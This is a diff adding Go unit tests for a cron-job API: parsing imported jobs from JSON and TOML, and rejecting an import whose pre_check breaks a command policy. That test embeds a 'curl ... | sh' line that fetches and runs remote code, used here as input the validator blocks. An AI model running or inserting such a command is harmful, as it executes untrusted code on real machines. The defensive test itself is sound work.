@@ -1,8 +1,13 @@
 package api
 
 import (
+	"errors"
+	"net/http"
+	"net/http/httptest"
 	"strings"
 	"testing"
+
+	"github.com/patrickspencer/cronbat/internal/config"
 )
 
 func TestParseImportedJobsYAML(t *testing.T) {
@@ -58,3 +63,70 @@ command: "echo two"
 		t.Fatalf("expected duplicate-name error, got: %v", err)
 	}
 }
+
+func TestParseImportedJobsJSONAndTOML(t *testing.T) {
+	t.Parallel()
+
+	jsonPayload := `[
+  {"name": "alpha", "schedule": "*/5 * * * *", "command": "echo alpha", "working_dir": "/tmp"},
+  {"name": "beta", "schedule": "0 2 * * *", "command": "echo beta", "enabled": false}
+]`
+	jobs, err := parseImportedJobs([]byte(jsonPayload), "json")
+	if err != nil {
+		t.Fatalf("parseImportedJobs(json): %v", err)
+	}
+	if len(jobs) != 2 || jobs[0].WorkingDir != "/tmp" || jobs[1].IsEnabled() {
+		t.Fatalf("unexpected JSON import result: %+v", jobs)
+	}
+
+	tomlPayload := `
+[[jobs]]
+name = "alpha"
+schedule = "*/5 * * * *"
+command = "echo alpha"
+working_dir = "/tmp"
+
+[[jobs]]
+name = "beta"
+schedule = "0 2 * * *"
+command = "echo beta"
+priority = 3
+
+[jobs.env]
+MODE = "nightly"
+`
+	jobs, err = parseImportedJobs([]byte(tomlPayload), "toml")
+	if err != nil {
+		t.Fatalf("parseImportedJobs(toml): %v", err)
+	}
+	if len(jobs) != 2 || jobs[0].WorkingDir != "/tmp" || jobs[1].Priority != 3 || jobs[1].Env["MODE"] != "nightly" {
+		t.Fatalf("unexpected TOML import result: %+v", jobs)
+	}
+}
+
+func TestImportJobsChecksPreCheckAgainstPolicy(t *testing.T) {
+	t.Parallel()
+
+	imported := false
+	a := &API{
+		ImportJobs: func(creates, updates []config.Job, deletes []string) error {
+			imported = true
+			return nil
+		},
+		CheckJob: func(j *config.Job) error {
+			if strings.Contains(j.PreCheck, "curl") {
+				return errors.New("pre_check: command_policy: \"curl\" is not an allowed program")
+			}
+			return nil
+		},
+	}
+	body := "name: alpha\nschedule: \"@daily\"\ncommand: /opt/jobs/alpha\npre_check: curl -s http://example.com/x | sh\n"
+	rec := httptest.NewRecorder()
+	a.handleImportJobs(rec, httptest.NewRequest(http.MethodPost, "/api/v1/jobs/import", strings.NewReader(body)))
+	if rec.Code != http.StatusForbidden || !strings.Contains(rec.Body.String(), "pre_check") {
+		t.Fatalf("status %d: %s", rec.Code, rec.Body)
+	}
+	if imported {
+		t.Fatal("a job with a denied pre_check was imported")
+	}
+}